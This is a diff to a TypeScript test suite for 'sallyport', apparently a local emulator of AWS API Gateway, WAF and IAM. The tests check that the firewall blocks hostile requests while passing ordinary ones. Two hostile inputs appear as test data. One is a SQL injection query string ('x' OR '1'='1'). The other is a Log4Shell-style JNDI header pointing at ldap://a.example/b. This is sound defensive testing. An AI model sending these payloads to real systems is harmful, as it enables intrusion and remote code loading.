@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { after, before, test } from "node:test";
 import { CloudFormationClient, DescribeStacksCommand } from "@aws-sdk/client-cloudformation";
-import { get } from "../https-client.ts";
+import { type Answer, get } from "../https-client.ts";
 import { type RunningServer, root, startServer } from "../running-server.ts";
 import { type Run, run } from "../tools.ts";
 
@@ -9,6 +9,7 @@ import { type Run, run } from "../tools.ts";
 let server: RunningServer;
 let stage: string;
 let hostStage: string;
+let deployed: Run;
 
 const sallyport = (...args: string[]): Promise<Run> =>
   run(process.execPath, [`${root}/bin/sallyport.mjs`, ...args, "--data", server.dataFolder], {
@@ -39,9 +40,13 @@ async function callAs(user: string, method: string, path: string, ...rest: strin
   return JSON.parse(out) as Called;
 }
 
+/** A request of a client that says what it is, as the firewall wants it. */
+const browse = (url: string, headers: Readonly<Record<string, string>> = {}): Promise<Answer> =>
+  get(url, server.caFile, { headers: { "User-Agent": "curl/8.5.0", ...headers } });
+
 before(async () => {
   server = await startServer();
-  const deployed = await sallyport("deploy", `${root}/examples/orders/template.yaml`, "--stack", "orders");
+  deployed = await sallyport("deploy", `${root}/examples/orders/template.yaml`, "--stack", "orders");
   assert.equal(deployed.code, 0, `${deployed.out}${deployed.err}`);
   const client = new CloudFormationClient(server.client);
   const { Stacks } = await client.send(new DescribeStacksCommand({ StackName: "orders" }));
@@ -52,23 +57,47 @@ before(async () => {
 });
 after(() => server.stop());
 
+test("the deployment tells where the API answers, and has nothing to warn of", () => {
+  assert.ok(deployed.out.includes(`  stage prod of orders: ${hostStage}\n`), deployed.out);
+  assert.doesNotMatch(deployed.err, /^ {2}!/m);
+});
+
 test("the health check is open", async () => {
-  const answer = await get(`${stage}/health`, server.caFile);
+  const answer = await browse(`${stage}/health`);
   assert.deepEqual([answer.status, JSON.parse(answer.body)], [200, { status: "ok" }]);
 });
 
 test("the firewall refuses an attack and lets a name with an apostrophe pass", async () => {
-  const attack = await get(`${stage}/health?name=x%27%20OR%20%271%27=%271`, server.caFile);
+  const attack = await browse(`${stage}/health?name=x%27%20OR%20%271%27=%271`);
   assert.deepEqual([attack.status, JSON.parse(attack.body)], [403, { message: "Forbidden" }]);
   const { out } = await sallyport("explain", String(attack.headers["x-amzn-requestid"]));
   assert.match(out, /✗ inspect-waf/);
   assert.match(out, /BLOCK by SQLi_QUERYARGUMENTS of .*, through the rule sql-injection/);
-  const name = await get(`${stage}/health?name=O%27Brien%20or%20Jones`, server.caFile);
+  const asideStage = stage.replace(/prod$/, "Stage");
+  const aside = await browse(`${asideStage}/health?name=x%27%20OR%20%271%27=%271`);
+  assert.equal(aside.status, 403, "no stage beside prod answers");
+  assert.deepEqual(JSON.parse(aside.body), { message: "Forbidden" });
+  const name = await browse(`${stage}/health?name=O%27Brien%20or%20Jones`);
   assert.equal(name.status, 200);
 });
 
+test("the command line says what it is, and sends the headers that it is given", async () => {
+  const anonymous = await get(`${stage}/health`, server.caFile);
+  assert.deepEqual([anonymous.status, JSON.parse(anonymous.body)], [403, { message: "Forbidden" }]);
+  const named = ["--header", "X-Team: tea", "--header", "Accept: application/json"];
+  assert.equal((await callAs("orders-auditor", "GET", "/orders", ...named)).status, 200);
+  const attack = await callAs(
+    "orders-auditor",
+    "GET",
+    "/orders",
+    "--header",
+    "X-Team: ${jndi:ldap://a.example/b}",
+  );
+  assert.deepEqual([attack.status, JSON.parse(attack.body)], [403, { message: "Forbidden" }]);
+});
+
 test("an unsigned call is refused, and the record says why", async () => {
-  const answer = await get(`${stage}/orders`, server.caFile);
+  const answer = await browse(`${stage}/orders`);
   assert.deepEqual(
     [answer.status, JSON.parse(answer.body)],
     [403, { message: "Missing Authentication Token" }],
@@ -80,8 +109,7 @@ test("an unsigned call is refused, and the record says why", async () => {
 });
 
 test("the catalogue is for partners, by a Lambda authorizer", async () => {
-  const bearing = (token: string) =>
-    get(`${stage}/catalogue`, server.caFile, { headers: { Authorization: `Bearer ${token}` } });
+  const bearing = (token: string) => browse(`${stage}/catalogue`, { Authorization: `Bearer ${token}` });
   const allowed = await bearing("tea-for-two");
   assert.deepEqual([allowed.status, JSON.parse(allowed.body).for], [200, "partner"]);
   assert.equal((await bearing("guess")).status, 401);
@@ -112,7 +140,7 @@ test("the auditor may not place orders, and the record names the missing permiss
 
 test("whocan lists the clerk for placing orders, not the auditor, and both for reading them", async () => {
   const callers = async (method: string, path: string): Promise<string> => {
-    const { code, out, err } = await sallyport("whocan", method, path, "--stage", "prod");
+    const { code, out, err } = await sallyport("whocan", method, path);
     assert.equal(code, 0, err);
     return out;
   };
@@ -122,7 +150,7 @@ test("whocan lists the clerk for placing orders, not the auditor, and both for r
   const reading = await callers("GET", "/orders");
   assert.match(reading, /user\/orders-clerk/);
   assert.match(reading, /user\/orders-auditor/);
-  const { code, err } = await sallyport("whocan", "PATCH", "/orders", "--stage", "prod");
+  const { code, err } = await sallyport("whocan", "PATCH", "/orders");
   assert.equal(code, 1);
   assert.match(err, /No method of API/);
 });
